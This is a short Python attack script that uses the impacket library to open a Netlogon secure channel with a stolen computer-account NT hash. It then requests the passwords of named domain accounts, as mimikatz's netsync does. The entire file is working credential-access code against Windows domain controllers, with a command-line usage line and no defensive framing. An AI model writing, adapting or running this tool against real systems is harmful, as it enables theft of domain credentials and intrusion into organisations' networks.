"""Reads the passwords of accounts over Netlogon with a computer's secret: with a controller's anybody's,
as mimikatz `lsadump::netsync` does, with another's its own ([MS-NRPC] 3.5.4.4.8, 3.5.4.4.9).

netsync.py SERVER COMPUTER controller|member NT-HASH ACCOUNT...
"""

import secrets
import sys

from impacket.dcerpc.v5 import epm, nrpc, transport

AES = 0x612FFFFF


def main():
    server, computer, role, secret, *accounts = sys.argv[1:]
    binding = epm.hept_map(server, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
    rpc = transport.DCERPCTransportFactory(binding).get_dce_rpc()
    rpc.connect()
    rpc.bind(nrpc.MSRPC_UUID_NRPC)
    kinds = nrpc.NETLOGON_SECURE_CHANNEL_TYPE
    kind = kinds.ServerSecureChannel if role == "controller" else kinds.WorkstationSecureChannel
    mine = secrets.token_bytes(8)
    theirs = nrpc.hNetrServerReqChallenge(rpc, "\x00", computer + "\x00", mine)
    theirs = theirs["ServerChallenge"]
    key = nrpc.ComputeSessionKeyAES("", mine, theirs, bytes.fromhex(secret))
    credential = nrpc.ComputeNetlogonCredentialAES(mine, key)
    nrpc.hNetrServerAuthenticate3(
        rpc, "\x00", computer + "$\x00", kind, computer + "\x00", credential, AES
    )
    print("the channel is open")
    for account in accounts:
        for read in (nrpc.hNetrServerTrustPasswordsGet, nrpc.hNetrServerPasswordGet):
            proof = nrpc.ComputeNetlogonAuthenticatorAES(credential, key)
            try:
                read(rpc, "\x00", account + "\x00", kinds.WorkstationSecureChannel, computer + "\x00", proof)
                print(account, "was read")
            except Exception as refused:
                print(account, "was refused:", refused)


main()
